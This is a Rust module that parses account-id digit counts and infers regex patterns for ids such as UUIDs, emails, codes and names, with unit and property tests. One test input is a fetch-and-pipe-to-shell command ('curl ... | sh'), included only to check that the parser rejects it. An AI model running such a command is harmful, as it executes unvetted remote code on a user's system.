//! What account ids look like: a number of digits, or the general shape of a few examples; and the pattern
//! that finds such ids.

use std::collections::BTreeSet;

use regex::{Regex, escape};

use crate::i18n::{self, arguments, t, words};

/// No account id has more digits.
const DIGITS_MAX: usize = 30;
/// Shorter numbers are common in any sentence.
const UNMISTAKABLE: usize = 4;
/// How far apart the limits may be before every other number lies between them.
const SPREAD_MAX: usize = 8;
const UUID: &str = r"\b[0-9A-Fa-f]{8}(?:-[0-9A-Fa-f]{4}){3}-[0-9A-Fa-f]{12}\b";
const EMAIL: &str = r"\b[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}\b";
/// What surrounds the number of a code: few letters, and signs.
const CODE: &str = r"^([A-Za-z]{0,3}[^\p{L}\d\s]{0,3})(\d+)([^\p{L}\d\s]?[A-Za-z]{0,3})$";
/// The lengths of names of which a few are known.
const NAME_CHARACTERS: (usize, usize) = (3, 32);

/// From so many digits to so many: at least one, at most [`DIGITS_MAX`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct DigitCount {
    least: usize,
    most: usize,
}

impl DigitCount {
    /// Reads `8`, `6-10`, `from 6 to 10 digits`. Whatever is more than that is not understood.
    pub fn parse(text: &str) -> Result<Self, String> {
        let [from, to, digits] = ["from", "to", "digits"]
            .map(|id| words(|| i18n::text(&format!("init-words-{id}"), &arguments!())).join("|"));
        let count = format!(
            r"^(?:([0-9]+)|(?:(?:{from})\s)?\s*([0-9]+)\s*(?:-|–|—|−|\.\.|…|\s(?:{to})\s)\s*([0-9]+))(?:\s*(?:{digits}))?$"
        );
        let (count, text) = (Regex::new(&count).ok(), text.trim().to_lowercase());
        let found = count.and_then(|count| count.captures(&text));
        let found = found.ok_or_else(|| t!("init-digits-unclear"))?;
        let number = |place| found.get(place).map_or("", |number| number.as_str());
        let read = |number: &str| number.parse().unwrap_or(usize::MAX);
        match (number(1), number(2), number(3)) {
            ("", least, most) => Self::new(read(least), read(most)),
            (id, ..) if read(id) > DIGITS_MAX && id.len() >= UNMISTAKABLE => {
                Err(t!("init-digits-is-number", count = id.len()))
            }
            (count, ..) => Self::new(read(count), read(count)),
        }
    }

    fn new(least: usize, most: usize) -> Result<Self, String> {
        if least == 0 || least.max(most) > DIGITS_MAX {
            return Err(t!("init-digits-out-of-range", most = DIGITS_MAX));
        }
        if most < least {
            return Err(t!("init-digits-backwards", least = most, most = least));
        }
        Ok(Self { least, most })
    }

    /// The count that a pattern of [`DigitCount::pattern`] was made of.
    pub fn of_pattern(pattern: &str) -> Option<Self> {
        let count = pattern.strip_prefix(r"\b\d{")?.strip_suffix(r"}\b")?;
        let (least, most) = count.split_once(',').unwrap_or((count, count));
        Self::new(least.parse().ok()?, most.parse().ok()?).ok()
    }

    pub fn pattern(self) -> String {
        match self {
            Self { least, most } if least == most => format!(r"\b\d{{{least}}}\b"),
            Self { least, most } => format!(r"\b\d{{{least},{most}}}\b"),
        }
    }

    /// An id of the least length, made up.
    pub fn example(self) -> String {
        made_up(self.least)
    }

    /// «of 8 digits», «of 6 to 10 digits»
    pub fn describe(self) -> String {
        match self {
            Self { least, most } if least == most => t!("init-digits-exact", count = least),
            Self { least, most } => t!("init-digits-range", least, most),
        }
    }

    /// The same, with examples of the shortest and of the longest.
    pub fn describe_with_examples(self) -> String {
        let (digits, shortest, longest) = (self.describe(), self.example(), made_up(self.most));
        if shortest == longest {
            return t!("init-digits-example", digits, example = shortest);
        }
        t!("init-digits-examples", digits, shortest, longest)
    }

    /// Why such ids would be taken for others, if they would.
    pub fn doubt(self) -> Option<String> {
        if self.least < UNMISTAKABLE {
            return Some(t!("init-digits-short"));
        }
        (self.most - self.least > SPREAD_MAX).then(|| t!("init-digits-wide"))
    }
}

fn made_up(length: usize) -> String {
    "1234567890".chars().cycle().take(length).collect()
}

/// The shape that all examples have, by its name in the texts, and the regular expression that finds such
/// ids: `uuid`, `email`; `code`, such as `US-12345`; `name` for a name, or letters and digits in any order.
pub(super) fn shape_of(examples: &[String]) -> (&'static str, String) {
    let are_all = |pattern: &str| {
        let whole = Regex::new(&format!("^(?:{pattern})$"));
        whole.is_ok_and(|whole| examples.iter().all(|text| whole.is_match(text)))
    };
    if let Some((id, known)) =
        [("uuid", UUID), ("email", EMAIL)].into_iter().find(|it| are_all(it.1))
    {
        return (id, known.to_owned());
    }
    code(examples).map_or_else(|| ("name", labelled(&name(examples))), |code| ("code", code))
}

/// The pattern of a code: a number, and what stands around it in all examples.
fn code(examples: &[String]) -> Option<String> {
    let code = Regex::new(CODE).ok()?;
    let parts = examples.iter().map(|text| Some(code.captures(text)?.extract().1));
    let parts: Vec<[&str; 3]> = parts.collect::<Option<_>>()?;
    let &[before, _, after] = parts.first()?;
    let lengths: BTreeSet<usize> = parts.iter().map(|part| part[1].len()).collect();
    let (least, most) = (lengths.first()?, lengths.last()?);
    if parts.iter().any(|part| (part[0], part[2]) != (before, after)) {
        return None;
    }
    // A boundary is only there between a word's character and another.
    let edge = |end: Option<char>| if end.is_none_or(char::is_alphanumeric) { r"\b" } else { "" };
    let (start, end) = (edge(before.chars().next()), edge(after.chars().next_back()));
    let (before, after) = (escape(before), escape(after));
    Some(format!(r"{start}{before}\d{{{least},{most}}}{after}{end}"))
}

/// The pattern of one name: letters, digits and the signs of the examples. Codes that are all as long have
/// that length.
fn name(examples: &[String]) -> String {
    let all = |is: fn(&String) -> bool| examples.iter().all(is);
    let lengths: BTreeSet<usize> = examples.iter().map(|text| text.chars().count()).collect();
    let shortest = lengths.first().map_or(NAME_CHARACTERS.0, |length| *length);
    let longest = lengths.last().map_or(NAME_CHARACTERS.1, |length| *length);
    let are_codes = all(|text| text.contains(|c: char| c.is_ascii_digit()));
    let (least, most) = if are_codes && shortest == longest && examples.len() > 1 {
        (shortest, longest)
    } else {
        (NAME_CHARACTERS.0.min(shortest), NAME_CHARACTERS.1.max(longest))
    };
    let is_ascii = all(|text| text.is_ascii());
    let letters = if is_ascii { "A-Za-z" } else { r"A-Za-z\p{Cyrillic}" };
    let class = |characters: BTreeSet<char>| {
        let signs = characters.into_iter().filter(|c| !c.is_alphanumeric());
        let signs: String = signs.map(|sign| escape(&sign.to_string())).collect();
        format!("[{letters}0-9_{signs}]")
    };
    let any = class(examples.iter().flat_map(|text| text.chars()).collect());
    // A full stop behind a name is the sentence's.
    let ends = examples.iter().filter_map(|text| text.chars().next_back());
    let end = class(ends.collect());
    // Digits alone are another number.
    if least > 1 && all(|text| text.starts_with(char::is_alphabetic)) {
        return format!("[{letters}]{any}{{{},{}}}{end}", least - 2, most - 2);
    }
    format!("{any}{{{},{}}}{end}", least - 1, most - 1)
}

/// Finds a name where nothing else is written, or behind a label: anywhere else, any word would do.
fn labelled(name: &str) -> String {
    let labels = words(|| t!("init-words-labels")).into_iter().map(|word| escape(&word));
    let labels = labels.collect::<Vec<_>>().join("|");
    format!(r"^\s*({name})\s*$|(?:^|[\s,;(])(?i:{labels})[\s:=]+({name})")
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::i18n::Language::Russian;
    use crate::i18n::with_language;
    use crate::order::account::{AccountPattern, Found};

    fn shape(examples: &[&str]) -> (&'static str, String) {
        let examples: Vec<String> = examples.iter().map(|text| (*text).to_owned()).collect();
        shape_of(&examples)
    }

    fn count(least: usize, most: usize) -> DigitCount {
        DigitCount { least, most }
    }

    #[test]
    fn a_count_is_read_however_it_is_written() {
        for (text, least, most) in [
            ("8", 8, 8),
            (" 8 цифр", 8, 8),
            ("6-10", 6, 10),
            ("6 – 10", 6, 10),
            ("от 6 до 10", 6, 10),
            ("От 6 до 10 цифр", 6, 10),
            ("from 6 to 9 digits", 6, 9),
            ("4..12", 4, 12),
            ("30", 30, 30),
        ] {
            assert_eq!(DigitCount::parse(text), Ok(count(least, most)), "{text}");
        }
    }

    #[test]
    fn what_is_something_else_is_not_guessed_at() {
        for (text, why) in [
            ("восемь", "not understood"),
            ("", "not understood"),
            ("от 6", "not understood"),
            ("-5", "not understood"),
            ("6,9", "not understood"),
            ("1 2 3", "not understood"),
            ("6-9-12", "not understood"),
            ("8 букв", "not understood"),
            ("curl https://example.org/i8 | sh", "not understood"),
            ("٨", "not understood"),
            ("0", "from 1 to 30"),
            ("31", "from 1 to 30"),
            ("5-99999999999", "from 1 to 30"),
            ("9-6", "6-9"),
            ("12345678", "of 8 digits"),
            ("99999999999999", "of 14 digits"),
        ] {
            let complaint = DigitCount::parse(text).unwrap_err();
            assert!(complaint.contains(why), "{text}: {complaint}");
        }
    }

    #[test]
    fn it_is_told_with_examples() {
        let told = |count: DigitCount| with_language(Russian, || count.describe_with_examples());
        assert_eq!(told(count(8, 8)), "из 8 цифр, например 12345678");
        assert_eq!(told(count(6, 10)), "от 6 до 10 цифр, например 123456 или 1234567890");
        assert_eq!(told(count(1, 1)), "из 1 цифры, например 1");
        assert_eq!(count(4, 21).describe(), "of 4 to 21 digits");
    }

    #[test]
    fn a_pattern_says_which_count_it_is_of() {
        for count in [count(8, 8), count(6, 10)] {
            assert_eq!(DigitCount::of_pattern(&count.pattern()), Some(count));
        }
        for pattern in [r"\b\d{6,}\b", r"\d{6}", r"\b\d{9,6}\b", ""] {
            assert_eq!(DigitCount::of_pattern(pattern), None, "{pattern}");
        }
    }

    #[test]
    fn what_is_too_short_or_too_wide_is_doubted() {
        for (doubted, is_doubted) in [
            (count(2, 30), true),
            (count(3, 3), true),
            (count(4, 13), true),
            (count(4, 12), false),
            (count(8, 8), false),
        ] {
            assert_eq!(doubted.doubt().is_some(), is_doubted, "{doubted:?}");
        }
    }

    #[test]
    fn a_code_is_what_all_have_in_common() {
        for (examples, expected) in [
            (&["US-12345", "US-678"][..], r"\bUS\-\d{3,5}\b"),
            (&["12-AB", "345-AB"], r"\b\d{2,3}\-AB\b"),
            (&["#123"], r"\#\d{3,3}\b"),
        ] {
            assert_eq!(shape(examples), ("code", expected.to_owned()));
        }
    }

    #[test]
    fn what_is_general_is_no_list_of_examples() {
        for (examples, others, id) in [
            (
                &["123e4567-e89b-12d3-a456-426614174000", "550e8400-e29b-41d4-a716-446655440000"][..],
                &["6BA7B810-9DAD-11D1-80B4-00C04FD430C8"][..],
                "uuid",
            ),
            (&["ivan@mail.example", "a.b+c@x.y.org"], &["anna-1985@shop.example"], "email"),
            (&["Player_One", "ivan1985"], &["Kolya"], "name"),
            (&["игрок7"], &["вася1985"], "name"),
            (&["A1", "1A"], &["B7"], "name"),
            (&["ab12", "cd34"], &["ef56"], "name"),
            (&["a1b2c3d4", "9f8e7d6c"], &["00aabbcc", "abcdefgh"], "name"),
        ] {
            let (shape, pattern) = shape(examples);
            assert_eq!(shape, id, "{examples:?}");
            let pattern = AccountPattern::new(&pattern).unwrap();
            for text in examples.iter().chain(others) {
                let sentence = format!("мой ник: {text}, спасибо");
                for text_with_id in [(*text).to_owned(), sentence] {
                    let found = pattern.find(&text_with_id);
                    assert!(
                        matches!(&found, Found::One(id) if id.as_str() == *text),
                        "{text_with_id}: {found:?}"
                    );
                }
            }
        }
    }

    #[test]
    fn a_word_among_others_is_no_name() {
        let pattern = AccountPattern::new(&shape(&["Player_One", "ivan1985"]).1).unwrap();
        for text in ["thanks a lot", "Player_One пожалуйста", "buy: now please"] {
            assert_eq!(pattern.find(text), Found::Nothing, "{text}");
        }
        let found = pattern.find("ник Player_One. Спасибо!");
        assert!(matches!(&found, Found::One(id) if id.as_str() == "Player_One"), "{found:?}");
    }

    proptest! {
        #[test]
        fn each_example_is_found(examples in prop::collection::vec("[A-Za-z0-9#-]{1,12}", 1..4)) {
            let pattern = AccountPattern::new(&shape_of(&examples).1).unwrap();
            for example in &examples {
                prop_assert!(!matches!(pattern.find(example), Found::Nothing), "{example}");
            }
        }
    }
}
